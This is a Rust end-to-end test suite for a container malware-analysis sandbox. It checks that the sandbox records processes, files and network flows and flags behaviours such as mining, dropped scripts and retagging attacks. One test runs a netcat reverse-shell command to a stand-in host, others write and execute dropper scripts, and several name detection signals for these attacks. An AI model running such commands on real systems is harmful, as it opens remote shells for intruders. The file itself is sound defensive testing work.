//! End-to-end runs on the local Docker Engine.
//!
//! Each test skips with a printed reason when Docker (or the `cordon-runsc` runtime, or root)
//! is missing, unless `CORDON_REQUIRE_E2E` is set, in which case it fails. Test payloads only
//! print and exit, and all their traffic stays in the fake internet's namespace.

use std::path::PathBuf;
use std::time::Duration;

use cordon_sandbox::engine::{DockerEngine, Engine};
use cordon_sandbox::report::Report;
use cordon_sandbox::{ImageSource, NetworkProfile, RuntimeChoice, Sandbox, SandboxOptions};
use tokio::sync::Mutex;

/// Runs are serialised: the machine has few cores and the timing of short runs matters.
static RUN_LOCK: Mutex<()> = Mutex::const_new(());

const BUSYBOX_IMAGE: &str = "cordon-sandbox-test/busybox:1";

fn required() -> bool {
    std::env::var_os("CORDON_REQUIRE_E2E").is_some()
}

fn skip(reason: &str) -> Option<Sandbox<DockerEngine>> {
    assert!(!required(), "CORDON_REQUIRE_E2E is set but {reason}");
    eprintln!("skipping: {reason}");
    None
}

async fn sandbox(runtime: RuntimeChoice) -> Option<Sandbox<DockerEngine>> {
    if !nix::unistd::Uid::effective().is_root() {
        return skip("the sandbox needs root (network namespaces, process events)");
    }
    let engine = match DockerEngine::connect().await {
        Ok(e) => e,
        Err(e) => return skip(&format!("no Docker Engine: {e}")),
    };
    if runtime == RuntimeChoice::Runsc {
        let runtimes = engine.runtimes().await.unwrap_or_default();
        if !runtimes
            .iter()
            .any(|r| r == cordon_sandbox::run::RUNSC_RUNTIME)
        {
            return skip(
                "the cordon-runsc runtime is not registered (tests/register-runsc-runtime.sh)",
            );
        }
    }
    Some(Sandbox::new(engine))
}

async fn ensure_busybox(sandbox: &Sandbox<DockerEngine>) {
    if sandbox.engine().inspect_image(BUSYBOX_IMAGE).await.is_ok() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("busybox.tar");
    let applets = [
        "sh", "nc", "nslookup", "true", "sleep", "cat", "wget", "echo", "chmod", "rm",
    ];
    cordon_sandbox::holder::write_busybox_archive(
        std::path::Path::new(cordon_sandbox::holder::BUSYBOX_PATH),
        BUSYBOX_IMAGE,
        &archive,
        &applets,
    )
    .unwrap();
    sandbox.engine().load_image(&archive).await.unwrap();
}

fn options(
    image: ImageSource,
    runtime: RuntimeChoice,
    seconds: u64,
    script: Option<&str>,
) -> (SandboxOptions, tempfile::TempDir) {
    let out = tempfile::tempdir().unwrap();
    let options = SandboxOptions {
        image,
        duration: Duration::from_secs(seconds),
        entrypoint: script.map(|_| vec!["/bin/sh".to_string(), "-c".to_string()]),
        cmd: script.map(|s| vec![s.to_string()]),
        env: Vec::new(),
        runtime,
        limits: Default::default(),
        network: NetworkProfile::Fake,
        output: out.path().to_path_buf(),
        replace_output: false,
        file_limits: Default::default(),
    };
    (options, out)
}

async fn run_busybox(runtime: RuntimeChoice, seconds: u64, script: &str) -> Option<Report> {
    let sandbox = sandbox(runtime).await?;
    let _guard = RUN_LOCK.lock().await;
    ensure_busybox(&sandbox).await;
    let (opts, _out) = options(
        ImageSource::Engine(BUSYBOX_IMAGE.to_string()),
        runtime,
        seconds,
        Some(script),
    );
    Some(sandbox.run(&opts).await.unwrap())
}

fn corpus_image(name: &str) -> Option<ImageSource> {
    let dir = std::env::var_os("CORDON_CORPUS_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/cache/cordon/images/corpus"));
    let archive = dir.join(format!("{name}.docker.tar"));
    if archive.is_file() {
        return Some(ImageSource::File(cordon_image::ImageSource::new(
            cordon_image::ImageFormat::DockerArchive,
            archive,
            None,
        )));
    }
    assert!(
        !required(),
        "CORDON_REQUIRE_E2E is set but {} is missing",
        archive.display()
    );
    eprintln!("skipping: corpus image {} is missing", archive.display());
    None
}

fn signal_ids(report: &Report) -> Vec<&str> {
    report.signals.iter().map(|s| s.id.as_str()).collect()
}

#[tokio::test]
async fn miner_simulation_is_malicious() {
    let Some(image) = corpus_image("miner-sim") else {
        return;
    };
    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
        return;
    };
    let _guard = RUN_LOCK.lock().await;
    let (opts, _out) = options(image, RuntimeChoice::Runsc, 20, None);
    let report = sandbox.run(&opts).await.unwrap();
    let ids = signal_ids(&report);
    assert_eq!(
        report.verdict,
        Some(cordon_sandbox::signals::Verdict::Malicious),
        "{ids:?}"
    );
    for expected in [
        "mining-pool-domain",
        "stratum-protocol",
        "drop-and-execute",
        "cron-persistence",
    ] {
        assert!(ids.contains(&expected), "{expected} missing from {ids:?}");
    }
    assert!(report
        .dns
        .iter()
        .any(|d| d.name == "us-east.cryptonight-hub.miningpoolhub.com"));
    let cmd = report
        .files
        .iter()
        .find(|f| f.path == "/root/cmd.sh")
        .expect("/root/cmd.sh recorded");
    assert_eq!(cmd.kind, cordon_sandbox::events::FileKind::Script);
    assert!(cmd.executed);
    assert_eq!(cmd.sha256.as_ref().map(String::len), Some(64));
    assert!(_out.path().join("report.json").is_file());
    assert!(_out.path().join("capture.pcapng").is_file());
}

#[tokio::test]
async fn nginx_is_benign_with_runtime_files_only() {
    let Some(image) = corpus_image("nginx") else {
        return;
    };
    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
        return;
    };
    let _guard = RUN_LOCK.lock().await;
    let (opts, _out) = options(image, RuntimeChoice::Runsc, 6, None);
    let report = sandbox.run(&opts).await.unwrap();
    assert_eq!(
        report.verdict,
        Some(cordon_sandbox::signals::Verdict::Benign),
        "{:?}",
        report.signals
    );
    assert!(
        report.killed_at_deadline,
        "nginx should still run at the deadline"
    );
    let allowed = [
        "/run",
        "/var",
        "/var/lib",
        "/var/lib/nginx",
        "/var/cache",
        "/var/cache/nginx",
        "/var/log",
        "/var/log/nginx",
    ];
    for f in &report.files {
        let ok = allowed.contains(&f.path.as_str())
            || f.path.starts_with("/var/lib/nginx/")
            || f.path.starts_with("/var/cache/nginx/")
            || f.path.starts_with("/var/log/nginx/")
            || f.path == "/run/nginx.pid";
        assert!(ok, "unexpected change {:?} {}", f.change, f.path);
    }
    assert!(report.files.iter().any(|f| f.path == "/run/nginx.pid"));
}

#[tokio::test]
async fn fork_storm_recorded_in_full_on_runsc() {
    let script = "i=0; while [ $i -lt 200 ]; do /bin/true; i=$((i+1)); done";
    let Some(report) = run_busybox(RuntimeChoice::Runsc, 20, script).await else {
        return;
    };
    let trues: Vec<_> = report
        .processes
        .iter()
        .filter(|p| p.argv == ["/bin/true"])
        .collect();
    assert_eq!(trues.len(), 200);
    assert!(trues.iter().all(|p| p.ppid == Some(1) && p.end.is_some()));
}

#[tokio::test]
async fn fork_storm_exec_events_complete_on_runc() {
    let script = "i=0; while [ $i -lt 200 ]; do /bin/true; i=$((i+1)); done";
    let Some(report) = run_busybox(RuntimeChoice::Runc, 20, script).await else {
        return;
    };
    let shell = report.processes.first().expect("the shell is recorded").pid;
    let children: Vec<_> = report
        .processes
        .iter()
        .filter(|p| p.ppid == Some(shell))
        .collect();
    assert_eq!(
        children.len(),
        200,
        "execs without details: {}",
        report.execs_without_details
    );
}

#[tokio::test]
async fn one_shot_dns_then_exit_captured() {
    for runtime in [RuntimeChoice::Runsc, RuntimeChoice::Runc] {
        let Some(report) =
            run_busybox(runtime, 20, "nslookup c2.example.test 10.66.0.1; exit 0").await
        else {
            return;
        };
        assert!(!report.killed_at_deadline);
        assert!(
            report.dns.iter().any(|d| d.name == "c2.example.test"),
            "{runtime:?}: {:?}",
            report.dns
        );
        // On runc, an exec that ends before its /proc entry is read keeps only pid and parent.
        let shell = report.processes.first().map(|p| p.pid);
        let child = report
            .processes
            .iter()
            .find(|p| p.ppid == shell && p.ppid.is_some());
        assert!(child.is_some(), "{runtime:?}: no exec under the shell");
        if runtime == RuntimeChoice::Runsc {
            assert_eq!(
                child.unwrap().argv.first().map(String::as_str),
                Some("nslookup")
            );
        }
    }
}

#[tokio::test]
async fn nc_reverse_shell_to_fake_c2_flagged() {
    let script = "nc 198.51.100.7 4444 -e /bin/sh; exit 0";
    let Some(report) = run_busybox(RuntimeChoice::Runsc, 10, script).await else {
        return;
    };
    let ids = signal_ids(&report);
    assert!(ids.contains(&"reverse-shell"), "{ids:?}");
    assert!(
        report
            .flows
            .iter()
            .any(|f| f.dst_ip == "198.51.100.7" && f.dst_port == 4444),
        "{:?}",
        report.flows
    );
}

/// Counts packets to the benchmark network in the host namespace while a container
/// tries to reach them; the fake internet must reply to everything and the host must see nothing.
#[tokio::test]
async fn no_packet_leaves_the_sandbox() {
    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
        return;
    };
    if std::process::Command::new("nft")
        .arg("--version")
        .output()
        .is_err()
    {
        skip("nft is not installed");
        return;
    }
    let _guard = RUN_LOCK.lock().await;
    ensure_busybox(&sandbox).await;
    let table = format!("cordon_sbx_egress_{}", std::process::id());
    let rules = format!(
        "table inet {table} {{\n chain count_output {{ type filter hook output priority -300; ip daddr 198.18.0.0/15 counter; }}\n chain count_forward {{ type filter hook forward priority -300; ip daddr 198.18.0.0/15 counter; }}\n chain count_prerouting {{ type filter hook prerouting priority -300; ip daddr 198.18.0.0/15 counter; }}\n}}\n"
    );
    let status = std::process::Command::new("nft")
        .arg("-f")
        .arg("-")
        .stdin(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(rules.as_bytes())?;
            c.wait()
        });
    assert!(
        status.unwrap().success(),
        "failed to add the counting table"
    );
    // 198.18.0.0/15 is reserved for benchmarks, so no other traffic on the host uses it.
    let script = "nc -w 2 198.18.77.77 47999 </dev/null; nc -w 2 198.19.0.5 443 </dev/null; nslookup leak.example.test 198.18.53.53; exit 0";
    let (opts, _out) = options(
        ImageSource::Engine(BUSYBOX_IMAGE.to_string()),
        RuntimeChoice::Runsc,
        20,
        Some(script),
    );
    let result = sandbox.run(&opts).await;
    let listing = std::process::Command::new("nft")
        .args(["list", "table", "inet", &table])
        .output()
        .unwrap();
    let _ = std::process::Command::new("nft")
        .args(["delete", "table", "inet", &table])
        .status();
    let report = result.unwrap();
    let text = String::from_utf8_lossy(&listing.stdout);
    let counters: Vec<&str> = text.lines().filter(|l| l.contains("counter")).collect();
    assert_eq!(counters.len(), 3, "{text}");
    for line in counters {
        assert!(
            line.contains("packets 0 bytes 0"),
            "a packet reached the host namespace: {line}"
        );
    }
    assert!(
        report
            .flows
            .iter()
            .any(|f| f.dst_ip == "198.18.77.77" && f.dst_port == 47999),
        "{:?}",
        report.flows
    );
    assert!(report.dns.iter().any(|d| d.name == "leak.example.test"));
}

#[tokio::test]
async fn sshd_start_raises_signal() {
    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
        return;
    };
    let _guard = RUN_LOCK.lock().await;
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/build-sshd-image.sh");
    let built = std::process::Command::new("bash").arg(script).status();
    if !matches!(built, Ok(s) if s.success()) {
        skip("the sshd test image could not be built (needs corpus/debian-slim and the Debian mirror)");
        return;
    }
    let (opts, _out) = options(
        ImageSource::Engine("cordon-sandbox-test/sshd:1".to_string()),
        RuntimeChoice::Runsc,
        6,
        None,
    );
    let report = sandbox.run(&opts).await.unwrap();
    let ids = signal_ids(&report);
    assert!(
        ids.contains(&"sshd-started"),
        "{ids:?} {:?}",
        report.processes
    );
    assert!(report.processes.iter().any(|p| p.exe == "/usr/sbin/sshd"));
}

const USER_IMAGE: &str = "cordon-sandbox-test/busybox-user:1";
const PASSWD: &str = "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/data:/bin/sh\n";

/// Busybox image that runs as `app` (uid 1000 in its /etc/passwd) and declares `VOLUME /data`
/// holding `seed.txt` (writable) and `keep.txt`.
async fn ensure_user_image(sandbox: &Sandbox<DockerEngine>) {
    if sandbox.engine().inspect_image(USER_IMAGE).await.is_ok() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("busybox-user.tar");
    let extras = cordon_sandbox::holder::ImageExtras {
        user: Some("app".to_string()),
        volumes: vec!["/data".to_string()],
        files: vec![
            ("/etc/passwd".to_string(), 0o644, PASSWD.as_bytes().to_vec()),
            ("/data/seed.txt".to_string(), 0o666, b"seed\n".to_vec()),
            ("/data/keep.txt".to_string(), 0o644, b"keep\n".to_vec()),
        ],
        dirs: vec!["/etc".to_string()],
    };
    cordon_sandbox::holder::write_busybox_archive_with(
        std::path::Path::new(cordon_sandbox::holder::BUSYBOX_PATH),
        USER_IMAGE,
        &archive,
        &["sh", "id", "sleep", "echo", "true", "cat"],
        &extras,
    )
    .unwrap();
    sandbox.engine().load_image(&archive).await.unwrap();
}

async fn run_user_image(runtime: RuntimeChoice, script: &str) -> Option<Report> {
    let sandbox = sandbox(runtime).await?;
    let _guard = RUN_LOCK.lock().await;
    ensure_user_image(&sandbox).await;
    let (opts, _out) = options(
        ImageSource::Engine(USER_IMAGE.to_string()),
        runtime,
        20,
        Some(script),
    );
    Some(sandbox.run(&opts).await.unwrap())
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(data))
}

#[tokio::test]
async fn non_root_user_uid_and_writes_recorded() {
    for runtime in [RuntimeChoice::Runsc, RuntimeChoice::Runc] {
        let script = "sleep 1; echo t > /tmp/u.txt; echo s > /dev/shm/u.txt; exit 0";
        let Some(report) = run_user_image(runtime, script).await else {
            return;
        };
        // Non-root processes can write to the memory directories, and their files are read.
        let shm = report.files.iter().find(|f| f.path == "/dev/shm/u.txt");
        assert_eq!(
            shm.and_then(|f| f.sha256.as_deref()),
            Some(sha256_hex(b"s\n").as_str()),
            "{runtime:?}: {:?}",
            report.files
        );
        let tmp = report.files.iter().find(|f| f.path == "/tmp/u.txt");
        assert_eq!(
            tmp.and_then(|f| f.sha256.as_deref()),
            Some(sha256_hex(b"t\n").as_str()),
            "{runtime:?}: {:?}",
            report.files
        );
        let shell = report
            .processes
            .iter()
            .find(|p| p.argv == ["/bin/sh", "-c", script] && !p.forked_only)
            .unwrap_or_else(|| panic!("{runtime:?}: no shell in {:?}", report.processes));
        assert_eq!(shell.uid, Some(1000), "{runtime:?}: {shell:?}");
        let sleep = report
            .processes
            .iter()
            .find(|p| p.argv.first().map(String::as_str) == Some("sleep"))
            .unwrap_or_else(|| panic!("{runtime:?}: no sleep exec in {:?}", report.processes));
        assert_eq!(sleep.uid, Some(1000), "{runtime:?}: {sleep:?}");
        assert!(
            report
                .processes
                .iter()
                .filter(|p| p.details_complete && !p.argv.is_empty())
                .all(|p| p.uid == Some(1000)),
            "{runtime:?}: {:?}",
            report.processes
        );
    }
}

#[tokio::test]
async fn subshell_fork_without_exec_listed() {
    let script = "( echo in-subshell; exit 3 ); sleep 1; exit 0";
    for runtime in [RuntimeChoice::Runsc, RuntimeChoice::Runc] {
        let Some(report) = run_busybox(runtime, 20, script).await else {
            return;
        };
        let shell = report
            .processes
            .iter()
            .find(|p| p.argv == ["/bin/sh", "-c", script] && !p.forked_only)
            .unwrap_or_else(|| panic!("{runtime:?}: no shell in {:?}", report.processes));
        let forks: Vec<_> = report.processes.iter().filter(|p| p.forked_only).collect();
        assert_eq!(forks.len(), 1, "{runtime:?}: {:?}", report.processes);
        let sub = forks[0];
        assert_eq!(sub.ppid, Some(shell.pid), "{runtime:?}: {sub:?}");
        assert_eq!(sub.argv, ["/bin/sh", "-c", script], "{runtime:?}");
        assert_eq!(sub.exe, shell.exe, "{runtime:?}");
        assert_eq!(sub.exit_code, Some(3), "{runtime:?}: {sub:?}");
        assert!(sub.end.is_some(), "{runtime:?}: {sub:?}");
        assert!(
            report
                .processes
                .iter()
                .any(|p| p.argv.first().map(String::as_str) == Some("sleep") && !p.forked_only),
            "{runtime:?}: a fork that executes stays an exec record"
        );
    }
}

/// Paths and contents the sandbox handed to the malware scanner.
type Scanned = std::sync::Arc<std::sync::Mutex<Vec<(String, Vec<u8>)>>>;

/// Records the paths the sandbox hands to the malware scanner.
struct RecordingScanner(Scanned);

impl cordon_sandbox::ContentScanner for RecordingScanner {
    fn scan(&self, path: &str, content: &[u8]) -> Vec<cordon_sandbox::events::ContentMatch> {
        self.0
            .lock()
            .unwrap()
            .push((path.to_string(), content.to_vec()));
        Vec::new()
    }
}

#[tokio::test]
async fn memory_dirs_and_deleted_files_keep_content() {
    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
        return;
    };
    let scanned = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let sandbox = sandbox.with_scanner(Box::new(RecordingScanner(scanned.clone())));
    let _guard = RUN_LOCK.lock().await;
    ensure_busybox(&sandbox).await;
    // Each script is written, made executable, run, and (for two of them) deleted.
    let script = concat!(
        "echo '#!/bin/sh' > /tmp/drop.sh; echo 'echo dropped' >> /tmp/drop.sh; ",
        "chmod 755 /tmp/drop.sh; /tmp/drop.sh; ",
        "echo '#!/bin/sh' > /tmp/gone.sh; echo 'echo gone-tmp' >> /tmp/gone.sh; ",
        "chmod 755 /tmp/gone.sh; /tmp/gone.sh; sleep 1; rm /tmp/gone.sh; ",
        "echo '#!/bin/sh' > /gone.sh; echo 'echo gone-root' >> /gone.sh; ",
        "chmod 755 /gone.sh; /gone.sh; sleep 1; rm /gone.sh; ",
        "echo '#!/bin/sh' > /dev/shm/shm.sh; echo 'echo shm' >> /dev/shm/shm.sh; ",
        "chmod 755 /dev/shm/shm.sh; /dev/shm/shm.sh; exit 0"
    );
    let (opts, _out) = options(
        ImageSource::Engine(BUSYBOX_IMAGE.to_string()),
        RuntimeChoice::Runsc,
        20,
        Some(script),
    );
    let report = sandbox.run(&opts).await.unwrap();
    let expected = [
        ("/tmp/drop.sh", "added", "#!/bin/sh\necho dropped\n"),
        ("/tmp/gone.sh", "transient", "#!/bin/sh\necho gone-tmp\n"),
        ("/gone.sh", "transient", "#!/bin/sh\necho gone-root\n"),
        ("/dev/shm/shm.sh", "added", "#!/bin/sh\necho shm\n"),
    ];
    let scanned = scanned.lock().unwrap().clone();
    for (path, change, content) in expected {
        let file = report
            .files
            .iter()
            .find(|f| f.path == path)
            .unwrap_or_else(|| panic!("{path} missing from {:?}", report.files));
        let json = serde_json::to_value(file).unwrap();
        assert_eq!(json["change"], change, "{file:?}");
        assert_eq!(
            file.sha256.as_deref(),
            Some(sha256_hex(content.as_bytes()).as_str()),
            "{file:?}"
        );
        assert_eq!(file.size, Some(content.len() as u64));
        assert_eq!(file.kind, cordon_sandbox::events::FileKind::Script);
        assert_eq!(file.mode.map(|m| m & 0o777), Some(0o755), "{file:?}");
        assert!(file.executed, "{file:?}");
        assert!(
            scanned
                .iter()
                .any(|(p, c)| p == path && c == content.as_bytes()),
            "{path} was not scanned"
        );
    }
    assert!(
        !report
            .runtime_notes
            .iter()
            .any(|n| n.contains("sandbox memory")),
        "{:?}",
        report.runtime_notes
    );
}

#[tokio::test]
async fn declared_volume_writes_captured() {
    let script = "echo payload > /data/new.txt; echo changed > /data/seed.txt; exit 0";
    for runtime in [RuntimeChoice::Runsc, RuntimeChoice::Runc] {
        let Some(report) = run_user_image(runtime, script).await else {
            return;
        };
        let find = |path: &str| report.files.iter().find(|f| f.path == path);
        let new = find("/data/new.txt")
            .unwrap_or_else(|| panic!("{runtime:?}: /data/new.txt missing: {:?}", report.files));
        assert_eq!(
            new.change,
            Some(cordon_sandbox::events::ChangeKind::Added),
            "{runtime:?}"
        );
        assert!(new.in_volume);
        assert_eq!(
            new.sha256.as_deref(),
            Some(sha256_hex(b"payload\n").as_str())
        );
        let seed = find("/data/seed.txt").expect("/data/seed.txt recorded");
        assert_eq!(
            seed.change,
            Some(cordon_sandbox::events::ChangeKind::Changed),
            "{runtime:?}"
        );
        assert_eq!(
            seed.sha256.as_deref(),
            Some(sha256_hex(b"changed\n").as_str())
        );
        assert!(
            find("/data/keep.txt").is_none(),
            "{runtime:?}: an image file left as it was is not a change"
        );
    }
}

#[tokio::test]
async fn image_without_command_fails_clearly() {
    let Some(image) = corpus_image("eicar") else {
        return;
    };
    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
        return;
    };
    let _guard = RUN_LOCK.lock().await;
    let (mut opts, _out) = options(image.clone(), RuntimeChoice::Runsc, 5, None);
    opts.entrypoint = None;
    opts.cmd = None;
    let error = sandbox.run(&opts).await.unwrap_err();
    assert!(
        matches!(error, cordon_sandbox::SandboxError::NoCommand { .. }),
        "{error}"
    );
    let message = error.to_string();
    let ImageSource::File(source) = image else {
        unreachable!()
    };
    assert!(
        message.contains(&source.path.display().to_string()),
        "{message}"
    );
    assert!(message.contains("--cmd"), "{message}");
    assert!(!message.contains('\n'));
}

/// Copies a docker-archive with a label added to its config (so the Engine does not have
/// its id yet) and with `repo_tags` in both `manifest.json` and `repositories`. Returns the
/// new image id.
fn retag_archive(src: &std::path::Path, dst: &std::path::Path, repo_tags: &[&str]) -> String {
    use std::io::Read;
    let mut members = Vec::new();
    let mut archive = tar::Archive::new(std::fs::File::open(src).unwrap());
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        members.push((name, entry.header().entry_type(), data));
    }
    let manifest: serde_json::Value =
        serde_json::from_slice(&members.iter().find(|m| m.0 == "manifest.json").unwrap().2)
            .unwrap();
    let old_config = manifest[0]["Config"].as_str().unwrap().to_string();
    let mut config: serde_json::Value =
        serde_json::from_slice(&members.iter().find(|m| m.0 == old_config).unwrap().2).unwrap();
    config["config"]["Labels"] = serde_json::json!({
        "cordon.test.run": uuid::Uuid::new_v4().to_string()
    });
    let config = serde_json::to_vec(&config).unwrap();
    let id = sha256_hex(&config);
    let mut new_manifest = manifest.clone();
    new_manifest[0]["Config"] = serde_json::json!(format!("{id}.json"));
    new_manifest[0]["RepoTags"] = serde_json::json!(repo_tags);
    let mut repositories = serde_json::Map::new();
    for tag in repo_tags {
        let (name, tag) = tag.rsplit_once(':').unwrap();
        repositories.insert(name.to_string(), serde_json::json!({ tag: id }));
    }
    let mut out = tar::Builder::new(std::fs::File::create(dst).unwrap());
    let mut add = |name: &str, kind: tar::EntryType, data: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_size(data.len() as u64);
        header.set_mode(if kind == tar::EntryType::Directory {
            0o755
        } else {
            0o644
        });
        out.append_data(&mut header, name, data).unwrap();
    };
    for (name, kind, data) in &members {
        if name != "manifest.json" && name != "repositories" && *name != old_config {
            add(name, *kind, data);
        }
    }
    add(&format!("{id}.json"), tar::EntryType::Regular, &config);
    add(
        "repositories",
        tar::EntryType::Regular,
        &serde_json::to_vec(&repositories).unwrap(),
    );
    add(
        "manifest.json",
        tar::EntryType::Regular,
        &serde_json::to_vec(&new_manifest).unwrap(),
    );
    out.into_inner().unwrap();
    format!("sha256:{id}")
}

#[tokio::test]
async fn archive_tags_never_move_local_names() {
    let Some(sandbox) = sandbox(RuntimeChoice::Runc).await else {
        return;
    };
    let _guard = RUN_LOCK.lock().await;
    ensure_busybox(&sandbox).await;
    let docker = bollard::Docker::connect_with_local_defaults()
        .unwrap()
        .negotiate_version()
        .await
        .unwrap();
    // A local name this test creates, pointing at the busybox test image.
    let victim_repo = format!(
        "cordon-sandbox-test/victim-{}",
        &uuid::Uuid::new_v4().simple().to_string()[..8]
    );
    let victim = format!("{victim_repo}:1");
    docker
        .tag_image(
            BUSYBOX_IMAGE,
            Some(bollard::query_parameters::TagImageOptions {
                repo: Some(victim_repo.clone()),
                tag: Some("1".to_string()),
            }),
        )
        .await
        .unwrap();
    let original = sandbox.engine().inspect_image(&victim).await.unwrap().id;

    let dir = tempfile::tempdir().unwrap();
    let busybox_archive = dir.path().join("busybox.tar");
    cordon_sandbox::holder::write_busybox_archive(
        std::path::Path::new(cordon_sandbox::holder::BUSYBOX_PATH),
        BUSYBOX_IMAGE,
        &busybox_archive,
        &["sh", "true"],
    )
    .unwrap();
    let hostile = dir.path().join("hostile.tar");
    let hostile_id = retag_archive(&busybox_archive, &hostile, &[victim.as_str()]);
    let image = ImageSource::parse(&hostile.display().to_string()).unwrap();
    let (mut opts, _out) = options(image, RuntimeChoice::Runc, 2, Some("true"));
    opts.network = NetworkProfile::None;
    let result = sandbox.run(&opts).await;

    let after = sandbox.engine().inspect_image(&victim).await.map(|i| i.id);
    let leftover = sandbox.engine().inspect_image(&hostile_id).await.is_ok();
    let private = sandbox
        .engine()
        .list_image_tags(cordon_sandbox::load::PRIVATE_REPOSITORY_PREFIX)
        .await
        .unwrap();
    // Remove the name this test created before asserting; the image keeps BUSYBOX_IMAGE.
    docker
        .remove_image(
            &victim,
            None::<bollard::query_parameters::RemoveImageOptions>,
            None,
        )
        .await
        .unwrap();
    result.unwrap();
    assert_eq!(after.unwrap(), original, "{victim} was re-pointed");
    assert!(!leftover, "image {hostile_id} stayed loaded after the run");
    let own = format!("{}", std::process::id());
    assert!(
        !private.iter().any(|t| t.contains(&format!(":{own}-"))),
        "private names stayed: {private:?}"
    );
}

#[tokio::test]
async fn oci_layout_runs_and_is_removed() {
    let dir = std::env::var_os("CORDON_CORPUS_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/cache/cordon/images/corpus"));
    let layout = dir.join("oci-single/distroless-like");
    if !layout.join("index.json").is_file() {
        assert!(
            !required(),
            "CORDON_REQUIRE_E2E is set but {} is missing",
            layout.display()
        );
        eprintln!("skipping: {} is missing", layout.display());
        return;
    }
    let Some(sandbox) = sandbox(RuntimeChoice::Runc).await else {
        return;
    };
    let _guard = RUN_LOCK.lock().await;
    let reference = format!("oci-dir:{}", layout.display());
    let source: cordon_image::ImageSource = reference.parse().unwrap();
    let config = cordon_image::Image::open(&source, &Default::default())
        .unwrap()
        .info()
        .config_digest
        .clone()
        .unwrap();
    // The load path runs only when the Engine does not contain this id already.
    let before = sandbox.engine().inspect_image(&config).await.is_ok();
    let (mut opts, _out) = options(
        ImageSource::parse(&reference).unwrap(),
        RuntimeChoice::Runc,
        2,
        None,
    );
    opts.network = NetworkProfile::None;
    let report = sandbox.run(&opts).await.unwrap();
    assert_eq!(report.image, reference);
    assert_eq!(report.image_id, config);
    assert!(!report.processes.is_empty());
    let after = sandbox.engine().inspect_image(&config).await.is_ok();
    assert_eq!(after, before, "image {config} loaded by the run stayed");
}

async fn script_dropper_detected(runtime: RuntimeChoice) {
    let script = "echo 'sleep 1' > /tmp/drop.sh; sh /tmp/drop.sh; sleep 30";
    let Some(report) = run_busybox(runtime, 4, script).await else {
        return;
    };
    let file = report
        .files
        .iter()
        .find(|f| f.path == "/tmp/drop.sh")
        .unwrap_or_else(|| panic!("/tmp/drop.sh missing: {:?}", report.files));
    assert!(file.executed, "{runtime:?}: {file:?}");
    let ids = signal_ids(&report);
    assert!(ids.contains(&"drop-and-execute"), "{runtime:?}: {ids:?}");
    assert!(ids.contains(&"exec-from-temp"), "{runtime:?}: {ids:?}");
}

#[tokio::test]
async fn script_dropper_detected_on_runc() {
    script_dropper_detected(RuntimeChoice::Runc).await;
}

#[tokio::test]
async fn script_dropper_detected_on_runsc() {
    script_dropper_detected(RuntimeChoice::Runsc).await;
}
